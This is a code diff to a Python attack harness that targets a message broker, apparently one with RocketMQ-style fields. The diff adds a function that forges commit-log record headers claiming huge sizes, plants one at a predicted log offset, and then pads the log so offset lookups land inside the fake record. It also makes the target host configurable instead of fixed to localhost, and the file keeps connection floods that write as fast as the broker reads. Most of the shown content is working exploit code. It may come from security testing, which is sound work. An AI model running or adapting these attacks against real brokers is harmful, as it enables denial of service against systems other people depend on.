@@ -27,6 +27,8 @@ from hostile_frames import Fields, batch_entry, framed, frames_of, json_header, 
 HOST = "127.0.0.1"
 ORDINARY = ("hostile-key", "hostile-secret")
 ADMINISTRATOR = ("administrator-key", "administrator-secret")
+RECORD_HEAD_BYTES = 88
+"""Before the body, where both hosts have IPv4 addresses."""
 LARGEST_BODY = 4 * 1024 * 1024
 MAX_UNSENT = 64
 """Frames that wait in a connection's buffer before it gets no more."""
@@ -36,6 +38,7 @@ MAX_UNSENT = 64
 class World:
     """What an attack knows."""
 
+    host: str
     port: int
     namesrv_port: int
     rules: Path
@@ -63,7 +66,7 @@ class World:
 
     def ask(self, frame: bytes, port: int | None = None) -> tuple[int, dict[str, str], bytes]:
         """Code, fields and body of one answer, over a connection of its own."""
-        with socket.create_connection((HOST, port or self.port), timeout=30) as peer:
+        with socket.create_connection((self.host, port or self.port), timeout=30) as peer:
             peer.sendall(frame)
             data = b""
             while not (answers := frames_of(data)):
@@ -103,15 +106,28 @@ def offsets(world: World) -> Frames:
         yield world.frame(314, [*(fields | {"topic": "Nowhere"}).items()])
 
 
+def _forged_head(size: int, place: int) -> bytes:
+    """What a record of `size` bytes at this offset of the log begins with; its end is made of zeros."""
+    layout, host = ">iIIiiqqiq8sq8siqi", bytes(8)
+    return struct.pack(layout, size, 0xDAA320A7, 0, 0, 0, 0, place, 0, 0, host, 0, host, 0, 0, size - 91)
+
+
 def forged_records(world: World) -> Frames:
-    """2: offsets into a body that holds heads of huge records."""
+    """2: offsets into a body that holds the head of a huge record."""
+
+    def stored(body: bytes) -> int:
+        return int(world.ask(world.send("Orders", body))[1]["msgId"][16:], 16)
+
+    size = 60 << 20  # within a segment of the log
     places = []
-    for size in (64 << 20, 512 << 20, 900 << 20):
-        head = struct.pack(
-            ">iIIiiqqiq8sq8siqi", size, 0xDAA320A7, 0, 0, 0, 0, 0, 0, 0, bytes(8), 0, bytes(8), 0, 0, size - 200
-        )
-        _, fields, _ = world.ask(world.send("Orders", head + b"x" * 500))
-        places.append(int(fields["msgId"][16:], 16) + 88)
+    for _ in range(20):
+        first, second = stored(bytes(500)), stored(bytes(500))
+        place = second + (second - first) + RECORD_HEAD_BYTES
+        if stored(_forged_head(size, place).ljust(500, b"\0")) + RECORD_HEAD_BYTES == place:
+            places.append(place)
+    filler = world.send("Orders", bytes(LARGEST_BODY - 1_000))
+    for _ in range(size // LARGEST_BODY + 3):
+        world.ask(filler)
     codes = [(33, "offset"), (36, "offset"), (37, "commitLogOffset")]
     rest = {"group": "readers", "delayLevel": "0", "producerGroup": "P", "tranStateTableOffset": "0"}
     rest |= {"commitOrRollback": "8", "msgId": "0" * 32}
@@ -245,8 +261,8 @@ ATTACKS: dict[str, Attack] = {
 class Peer:
     """One connection that writes as fast as the broker reads."""
 
-    def __init__(self, port: int) -> None:
-        self.socket = socket.create_connection((HOST, port), timeout=10)
+    def __init__(self, host: str, port: int) -> None:
+        self.socket = socket.create_connection((host, port), timeout=10)
         self.socket.setblocking(False)
         self.unsent = b""
 
@@ -260,7 +276,7 @@ def run(world: World, attack: Attack, seconds: float, connections: int) -> tuple
 
     def connect() -> None:
         with contextlib.suppress(OSError):
-            peer = Peer(port)
+            peer = Peer(world.host, port)
             selector.register(peer.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, peer)
 
     for _ in range(connections):
